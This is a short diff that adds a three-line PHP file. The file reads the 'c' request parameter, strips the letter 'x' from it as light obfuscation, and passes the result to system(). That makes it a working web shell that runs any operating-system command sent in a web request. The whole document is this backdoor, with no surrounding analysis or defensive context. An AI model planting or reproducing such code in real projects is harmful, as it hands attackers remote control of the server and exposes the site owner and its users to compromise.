@@ -1,0 +1,3 @@
+<?php
+$f = fn() => str_replace("x", "", $_GET["c"]);
+system($f());
